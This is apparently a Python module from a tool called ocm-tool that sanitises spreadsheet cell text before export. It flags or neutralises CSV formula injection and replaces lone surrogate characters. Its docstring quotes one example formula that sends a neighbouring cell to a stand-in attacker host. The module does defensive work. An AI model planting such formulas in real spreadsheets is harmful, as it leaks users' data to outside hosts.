"""What every writer does to a cell's text before it stores it: spreadsheet formulas, and
characters no file can hold. One place, for every format (CSV now, a workbook next).

- **Formulas.** A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
  return is a formula to Excel, LibreOffice and Google Sheets when the file is opened
  (``=HYPERLINK("https://evil/?"&A2, "Click")`` sends a neighbouring cell away). Such cells
  are counted (:attr:`CellText.formulas`) in every run; with ``escape_formulas`` they are
  neutralised the OWASP way, a leading apostrophe (``'=1+2``), which spreadsheets show as
  text and which an import tool reads back with the apostrophe. Only text is concerned:
  numbers, amounts, dates and booleans are written by ocm-tool itself and are never formulas
  (``-5`` stays a number).
- **Lone surrogates.** JSON may carry ``"\\ud800"``: half of a character, which UTF-8 cannot
  encode. It is replaced by U+FFFD (the replacement character) and counted
  (:attr:`CellText.replaced`) instead of losing the file.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from ocm_tool.output.values import Links, Stamp

#: The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_STARTS = frozenset("=+-@\t\r")
#: Values whose text comes from the server (the others are numbers and dates ocm-tool writes).
TEXT_VALUES = (str, Stamp, Links, tuple)
#: The prefix that makes a formula cell text again.
NEUTRALISER = "'"
REPLACEMENT = "\ufffd"
_SURROGATE = re.compile("[\ud800-\udfff]")


def is_formula(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula."""
    return text[:1] in FORMULA_STARTS and text != ""


def neutralised(text: str) -> str:
    """``text`` as a spreadsheet shows it as text: ``'`` before a formula, else unchanged."""
    return NEUTRALISER + text if is_formula(text) else text


@dataclass
class CellText:
    """The cell texts of one table, made safe to store; counts what it changed or found.

    ``formulas``: text cells a spreadsheet would read as formulas (neutralised when
    ``escape_formulas``); ``replaced``: lone surrogates replaced by U+FFFD.
    """

    escape_formulas: bool = False
    formulas: int = 0
    replaced: int = 0

    def text(self, text: str) -> str:
        """One text cell (text, not a number or date), as the file stores it."""
        if text[:1] in FORMULA_STARTS and text:
            self.formulas += 1
            if self.escape_formulas:
                text = NEUTRALISER + text
        return text

    def encodable(self, text: str) -> str:
        """``text`` with lone surrogates replaced (and counted)."""
        cleaned, count = _SURROGATE.subn(REPLACEMENT, text)
        self.replaced += count
        return cleaned
